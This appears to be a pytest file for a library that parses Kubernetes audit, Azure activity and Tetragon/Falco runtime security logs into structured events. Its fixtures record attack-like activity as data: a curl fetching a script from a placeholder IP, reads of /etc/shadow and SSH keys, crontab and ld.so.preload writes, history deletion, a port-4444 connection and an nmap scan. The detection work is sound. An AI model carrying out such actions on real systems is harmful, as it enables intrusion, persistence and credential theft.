"""What becomes of a record of each format: the fields that its documentation promises."""

import operator
from typing import Any

import msgspec
import pytest

from events import ActivityEvent, AuditEvent, Connection, File, Item, Kind, ObjectRef, RuntimeEvent, Skipped
from tests.events.captures import items

NOON = 1_795_521_600_000_000
EXEC: dict[str, Any] = {
    "time": NOON + 123_456,
    "event_id": "6f3a3b0e-5a51-4b39-9d6c-0c7be2f0a001",
    "verb": "get",
    "stage": "ResponseStarted",
    "resource": "pods/exec",
    "user.username": "jane@contoso.example",
    "user.groups": ("developers", "system:authenticated"),
    "user.extra": {"authentication.kubernetes.io/credential-id": ("JTI=0b8a",)},
    "impersonated.username": "system:admin",
    "addresses": ("203.0.113.7", "10.240.0.4"),
    "user_agent": "kubectl/v1.34.1 (linux/amd64) kubernetes/abc1234",
    "object": ObjectRef(resource="pods", subresource="exec", namespace="shop", name="web-0", api_version="v1"),
    "uri": "/api/v1/namespaces/shop/pods/web-0/exec?command=sh&container=web&stdin=true&tty=true",
    "code": 101,
    "decision": "allow",
    "reason": 'RBAC: allowed by RoleBinding "dev/shop" of ClusterRole "edit" to Group "developers"',
    "level": "Metadata",
    "request": None,
    "truncated": False,
}
CREATE = {"verb": "create", "resource": "pods", "object.name": "web-6d4cf56db6-x2x7k", "time": NOON + 1_500_000}
BETA = {"verb": "create", "resource": "clusterrolebindings", "time": 1_540_474_946_000_000, "code": 201}
BARE = {
    "verb": "delete",
    "resource": "secrets",
    "time": NOON + 123_456,
    "user.username": "",
    "code": 401,
    "request": None,
}
RECEIVED = Skipped("audit stage RequestReceived")
STORAGE = {
    "cluster": "prod-weu-1",
    "time": NOON + 123_456,
    "operation": "microsoft.storage/storageaccounts/listkeys/action",
    "result": "success",
    "category": "action",
    "identity.kind": "app",
    "identity.object_id": "obj-1",
    "identity.app_id": "app-1",
    "address": "203.0.113.7",
    "role": "contributor",
    "scope": "/subscriptions/11111111-2222-3333-4444-555555555555",
}
CURL = {
    "process.binary": "/usr/bin/curl",
    "process.arguments": "-s http://198.51.100.7/x.sh",
    "process.uid": 1000,
    "process.auid": None,
    "container.id": "551e161c47d8",
    "container.name": "web",
    "container.image": "registry.example/web:1",
    "container.namespace": "shop",
    "container.pod": "web-6d4cf56db6-x2x7k",
    "on_host": False,
    "node": "node-1",
}


def connected(address: str, port: int, protocol: str = "tcp", direction: str = "out", closing: bool = False) -> Any:
    return {"kind": Kind.CONNECTION, "connection": Connection(address, port, protocol, direction, closing)}


def touched(path: str, access: str) -> Any:
    return {"kind": Kind.FILE, "file": File(path, access)}


EXPECTED: dict[str, list[Skipped | dict[str, Any]]] = {
    "native": [
        {**EXEC, "cluster": "default"},
        {**CREATE, "cluster": "default", "code": 201, "reason": "", "level": "RequestResponse"},
        BETA,
        BARE,
        RECEIVED,
        EXEC,
        CREATE,
        BETA,
        BARE,
    ],
    "aks": [
        {**EXEC, "cluster": "prod-weu-1"},
        {**CREATE, "cluster": "prod-weu-1"},
        Skipped("azure log category guard"),
        {**EXEC, "cluster": "prod-weu-1"},
        {
            "verb": "create",
            "truncated": True,
            "time": NOON + 5_000_000,
            "code": 201,
            "response": None,
            "object.name": "",
        },
        Skipped("azure log category other"),
    ],
    "eks": [
        {**EXEC, "cluster": "prod-1"},
        {**CREATE, "cluster": "prod-1"},
        {**EXEC, "cluster": "prod-1"},
        {**CREATE, "cluster": "prod-1"},
        Skipped("eks control message"),
        Skipped("eks log stream authenticator"),
        Skipped("empty envelope"),
    ],
    "gke": [
        {
            "cluster": "shop-eu",
            "time": NOON + 5_043_988,
            "event_id": "7e67c7e4-4680-4597-b0fe-ba16f87b0001",
            "verb": "create",
            "resource": "pods/exec",
            "object.namespace": "shop",
            "object.name": "web-0",
            "user.username": "jane@contoso.example",
            "user.groups": (),
            "addresses": ("203.0.113.7",),
            "user_agent": "kubectl/v1.34.1",
            "stage": None,
            "code": 200,
            "decision": "allow",
        },
        {"resource": "clusterrolebindings", "object.api_group": "rbac.authorization.k8s.io", "code": 403},
        {"verb": "delete", "resource": "namespaces", "object.name": "shop", "object.namespace": "shop", "code": 404},
        {"verb": "get", "resource": "nodes/proxy", "object.name": "gke-1", "object.namespace": ""},
        {"verb": "list", "resource": "crontabs", "object.api_group": "stable.example.com", "object.name": ""},
        Skipped("gke log entry of another service"),
        Skipped("gke log entry without audit payload"),
    ],
    "tetragon": [
        {
            **CURL,
            "cluster": "prod-1",
            "time": NOON + 987_654,
            "kind": Kind.EXEC,
            "event_id": "a2luZC1ub2RlOjEyMzQ6NDI=",
            "process.exec_id": "a2luZC1ub2RlOjEyMzQ6NDI=",
            "process.started": NOON + 123_456,
            "process.parent_exec_id": "a2luZC1ub2RlOjEyMzM6NDE=",
            "process.container_pid": 53,
            "process.probe": False,
            "process.capabilities": ("CAP_CHOWN", "CAP_DAC_OVERRIDE"),
            "parent.command_line": '/bin/bash -c "sleep 1"',
            "parent.auid": 1000,
            "container.workload": "web",
            "container.workload_kind": "Deployment",
            "container.started": NOON - 3_600_000_000,
        },
        {
            "kind": Kind.EXIT,
            "event_id": "a2luZC1ub2RlOjEyMzQ6NDI=/exit",
            "on_host": True,
            "container": None,
            "parent": None,
        },
        {**CURL, **touched("/etc/shadow", "read"), "function": "security_file_permission", "policy": "files"},
        touched("/etc/passwd", "write"),
        touched("/etc/ld.so.preload", "map"),
        touched("/var/log/syslog", "truncate"),
        touched("/root/.ssh/id_rsa", "open"),
        touched("/etc/crontab", "write"),
        touched("/etc/hosts", "write"),
        touched("/tmp/x", "execute"),
        touched("/root/.bash_history", "unlink"),
        connected("198.51.100.7", 443),
        connected("198.51.100.7", 443, closing=True),
        connected("0.0.0.0", 8080, direction="listen"),  # noqa: S104 - an address that is read, not bound
        connected("198.51.100.9", 4444),
        connected("198.51.100.7", 53, "udp"),
        {"kind": Kind.OTHER, "connection": None, "function": "security_socket_connect"},
        {"kind": Kind.OTHER, "file": None, "function": "security_bpf"},
        {"kind": Kind.OTHER},
        {"kind": Kind.OTHER, "function": "readline"},
        connected("198.51.100.7", 80),
        connected("198.51.100.7", 80, closing=True),
        connected("0.0.0.0", 9080, direction="listen"),  # noqa: S104 - an address that is read, not bound
        {"kind": Kind.LOST, "lost": 4711, "node": "node-1"},
        {"kind": Kind.LOST, "lost": None},
    ],
    "falco": [
        {
            **CURL,
            "kind": Kind.EXEC,
            "time": NOON + 123_456,
            "event_id": f"node-1:4242:1795521600000000000:{NOON + 123_456}",
            "process.exec_id": "node-1:4242:1795521600000000000",
            "process.parent_exec_id": "node-1:4241:1795521500000000000",
            "process.session": 4000,
            "process.container_pid": 7,
            "process.cwd": "/app/",
            "parent.exec_id": "node-1:4241:1795521500000000000",
            "parent.command_line": "bash -c run",
            "policy": "All executions",
        },
        {
            "kind": Kind.EXEC,
            "cluster": "prod-1",
            "on_host": True,
            "container": None,
            "parent": None,
            "process.command_line": "nmap -sT 10.0.0.0/24",
            "process.exec_id": f"node-1:99:{NOON + 123_456}000",
        },
        {**CURL, **connected("198.51.100.7", 443)},
        connected("198.51.100.7", 443, ""),
        connected("203.0.113.9", 5555, direction="in"),
        touched("/etc/shadow", "read"),
        touched("/etc/crontab", "write"),
        {**touched("/root/.bash_history", "unlink"), "on_host": True},
        {"kind": Kind.OTHER, "function": "setns"},
        {"kind": Kind.LOST, "lost": 815_508},
        Skipped("falco source internal"),
        Skipped("falco source k8s_audit"),
    ],
    "azure_activity": [
        STORAGE,
        Skipped("azure log category policy"),
        Skipped("azure log category signinlogs"),
        {**EXEC, "cluster": "prod-weu-1"},
        {
            "cluster": "prod-weu-1",
            "operation": "microsoft.containerservice/managedclusters/agentpools/write",
            "result": "start",
            "identity.kind": "user",
            "identity.name": "jane@contoso.example",
            "identity.object_id": "p-2",
        },
        {
            "cluster": "default",
            "operation": "microsoft.compute/virtualmachines/runcommand/action",
            "time": NOON + 1_500_000,
            "result": "succeeded",
            "signature": "OK",
            "address": "203.0.113.8",
            "identity.name": "jane@contoso.example",
        },
        Skipped("empty envelope"),
    ],
}


def differences(item: Item, expected: Skipped | dict[str, Any]) -> dict[str, Any]:
    if isinstance(expected, Skipped):
        return {} if item == expected else {"item": item}
    assert isinstance(item, AuditEvent | RuntimeEvent | ActivityEvent), item
    found = {path: operator.attrgetter(path)(item) for path in expected}
    return {path: value for path, value in found.items() if value != expected[path]}


@pytest.mark.parametrize("name", EXPECTED)
def test_each_record_has_the_fields_of_its_documentation(name: str) -> None:
    found = items(name)
    assert len(found) == len(EXPECTED[name])
    assert [differences(*pair) for pair in zip(found, EXPECTED[name], strict=True)] == [{}] * len(found)


def test_bodies_are_kept_as_they_were_written() -> None:
    create = items("native")[1]
    assert isinstance(create, AuditEvent)
    assert create.request is not None
    assert create.response is not None
    assert msgspec.json.decode(create.request)["metadata"] == {"generateName": "web-6d4cf56db6-"}
    assert msgspec.json.decode(create.response)["metadata"]["uid"] == "u-1"


def test_a_cut_record_keeps_the_body_that_came_whole() -> None:
    cut = items("aks")[4]
    assert isinstance(cut, AuditEvent)
    assert cut.request is not None
    assert msgspec.json.decode(cut.request)["kind"] == "Pod"


def test_ancestors_that_a_rule_skips_keep_their_place() -> None:
    nmap = items("falco")[1]
    assert isinstance(nmap, RuntimeEvent)
    assert [ancestor.binary for ancestor in nmap.ancestors] == ["", "sshd"]


def test_the_managed_identity_is_the_resource_in_the_token() -> None:
    record = items("azure_activity")[0]
    assert isinstance(record, ActivityEvent)
    assert record.identity.managed_identity.endswith("/managedclusters/prod-weu-1")
